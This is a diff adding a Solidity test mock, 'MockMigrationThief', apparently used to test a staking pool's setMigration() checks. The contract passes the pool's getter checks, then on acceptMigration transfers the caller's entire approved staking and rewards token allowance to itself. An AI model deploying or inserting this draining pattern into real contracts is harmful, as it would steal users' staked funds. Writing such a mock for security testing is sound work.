@@ -0,0 +1,41 @@
+// SPDX-License-Identifier: AGPL-3.0
+pragma solidity ^0.8.15;
+
+import "@openzeppelin_new/contracts/token/ERC20/IERC20.sol";
+
+/// @notice Fake staking pool for local testing only.
+/// @dev Answers the getters setMigration() checks, then keeps everything a migration
+///  approves instead of crediting stakers.
+contract MockMigrationThief {
+    address public immutable owner;
+    address public immutable stakingToken;
+    address public immutable rewardsToken;
+
+    constructor(
+        address _owner,
+        address _stakingToken,
+        address _rewardsToken
+    ) {
+        owner = _owner;
+        stakingToken = _stakingToken;
+        rewardsToken = _rewardsToken;
+    }
+
+    function acceptMigration(
+        address[] calldata,
+        uint256[] calldata,
+        uint256[] calldata
+    ) external {
+        _take(stakingToken);
+        _take(rewardsToken);
+    }
+
+    function _take(address _token) internal {
+        IERC20 token = IERC20(_token);
+        token.transferFrom(
+            msg.sender,
+            address(this),
+            token.allowance(msg.sender, address(this))
+        );
+    }
+}